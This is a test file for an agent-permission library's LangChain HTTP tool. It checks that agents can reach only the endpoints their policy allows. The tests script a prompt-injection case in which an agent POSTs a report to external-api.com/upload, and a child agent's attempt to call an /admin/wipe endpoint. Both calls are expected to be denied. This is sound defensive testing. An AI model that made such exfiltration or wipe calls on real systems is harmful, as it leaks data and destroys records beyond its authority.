/**
 * The LangChain HTTP tool in real `createAgent` runs driven by the fake tool-calling model:
 * it acts only as the agent named in the run's context, with that agent's level and declared
 * destinations read from the authority on each call. A child handed its parent's tool list
 * acts as the child.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AIMessage, type BaseMessage } from '@langchain/core/messages'
import { fakeModel } from '@langchain/core/testing'
import { createAgent } from 'langchain'
import { Authority, MemoryAuditLog } from 'agent-trust'
import { agentTrustContext, agentTrustMiddleware } from 'agent-trust/langchain'
import { createLangChainHttpTool, type LangChainHttpTool } from 'agent-trust/langchain/http'
import { scriptedResolver, startServer, type TestServer } from '../../support/egress.js'
import { CONTEXT } from '../../support/seed.js'
import { expectOptionMisuse, HOSTILE_KEY, HOSTILE_KEY_PATH } from '../../support/options.js'

let db: TestServer
let external: TestServer
let authority: Authority
let httpTool: LangChainHttpTool

// external-api.com "exists" here (it resolves to loopback): only the policy stops it.
const resolver = scriptedResolver({ 'agent-database-reader': ['127.0.0.1'], 'external-api.com': ['127.0.0.1'] })

beforeAll(async () => {
  db = await startServer((req, res) => {
    res.setHeader('content-type', 'application/json')
    res.end(JSON.stringify({ documents: ['q3-report.pdf'], method: req.method, path: req.url }))
  })
  external = await startServer((_q, res) => res.end('thanks for the documents'))
  authority = await Authority.create({
    manifest: {
      authority: { id: 'test-authority' },
      agents: [
        { id: 'agent-orchestrator', trustLevel: 'L3', grants: [], egress: [`http://agent-database-reader:${db.port} internal`] },
        { id: 'agent-summarizer-v2', trustLevel: 'L2', grants: [], egress: [`http://agent-database-reader:${db.port} internal`] },
        { id: 'agent-child', trustLevel: 'L1', grants: [] },
      ],
    },
  })
  httpTool = createLangChainHttpTool({ authority, resolver, mode: 'enforce', audit: new MemoryAuditLog() })
})

afterAll(async () => {
  await httpTool.close()
  await db.close()
  await external.close()
})

function toolMessages(messages: readonly BaseMessage[]) {
  return messages
    .filter((m) => m.getType() === 'tool')
    .map((m) => ({ content: String(m.content), status: (m as { status?: string }).status }))
}

const run = (agentId: string | undefined, calls: Array<Record<string, unknown>>, middleware = false) => {
  let model = fakeModel()
  calls.forEach((args, i) => (model = model.respondWithTools([{ name: 'http_request', args, id: `call-${i}` }])))
  model = model.respond(new AIMessage('done'))
  const agent = createAgent({
    model,
    tools: [httpTool],
    ...(middleware ? { middleware: [agentTrustMiddleware({})] } : {}),
  })
  return agent.invoke(
    { messages: [{ role: 'user', content: 'go' }] },
    agentId === undefined ? {} : { context: agentTrustContext({ agentId, ...CONTEXT }) },
  )
}

describe('the HTTP tool acts only as its caller', () => {
  it('the injected prompt cannot exfiltrate: the tool call is refused, the declared read works', async () => {
    const result = await run('agent-summarizer-v2', [
      { url: `http://agent-database-reader:${db.port}/documents` },
      { url: `http://external-api.com:${external.port}/upload`, method: 'POST', body: 'q3-report.pdf' },
    ])
    const [read, exfil] = toolMessages(result.messages)
    expect(JSON.parse(read!.content)).toMatchObject({ status: 200 })
    expect(exfil!.status).toBe('error')
    expect(exfil!.content).toContain('EgressDenied')
    expect(exfil!.content).toContain('external-api.com')
    expect(external.seen).toHaveLength(0)
  })

  it("an L1 child with no egress, handed its L3 parent's tool list, acts as the child (through the middleware too)", async () => {
    const before = db.seen.length
    const parent = await run('agent-orchestrator', [
      { url: `http://agent-database-reader:${db.port}/admin/wipe`, method: 'POST', body: '{}' },
    ])
    expect(JSON.parse(toolMessages(parent.messages)[0]!.content)).toMatchObject({ status: 200 })
    expect(db.seen.length).toBe(before + 1)
    const wipe = [{ url: `http://agent-database-reader:${db.port}/admin/wipe`, method: 'POST', body: '{}' }]
    const [m] = toolMessages((await run('agent-child', wipe)).messages)
    expect(m!.status).toBe('error')
    expect(m!.content).toContain('EgressDenied')
    // Through agentTrustMiddleware (fail-closed): the run stops with the coded refusal.
    await expect(run('agent-child', wipe, true)).rejects.toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { agentId: 'agent-child' } })
    expect(db.seen.length).toBe(before + 1)
  })

  it('validates its options', async () => {
    await expectOptionMisuse(() => createLangChainHttpTool({} as never), { path: 'authority' })
    await expectOptionMisuse(() => createLangChainHttpTool({ authority, timeoutMs: 0 }), { path: 'timeoutMs' })
    await expectOptionMisuse(() => createLangChainHttpTool({ authority, egress: ['https://a.example'] } as never), { path: 'egress' })
    await expectOptionMisuse(() => createLangChainHttpTool({ authority, resolver: 'dns' as never }), { path: 'resolver' })
    await expectOptionMisuse(() => createLangChainHttpTool({ authority, [HOSTILE_KEY]: 1 } as never), { path: HOSTILE_KEY_PATH })
  })

  it('refuses a call with no caller in the runtime context, or an unknown caller', async () => {
    const before = db.seen.length
    for (const who of [undefined, 'agent-nobody']) {
      const r = await run(who, [{ url: `http://agent-database-reader:${db.port}/documents` }])
      const [m] = toolMessages(r.messages)
      expect(m!.status).toBe('error')
      expect(m!.content).toContain('EgressDenied')
    }
    await expect(httpTool.invoke({ url: `http://agent-database-reader:${db.port}/documents` })).rejects.toMatchObject({
      code: 'ERR_EGRESS_DENIED',
      details: { rule: 'caller' },
    })
    expect(db.seen.length).toBe(before)
  })
})
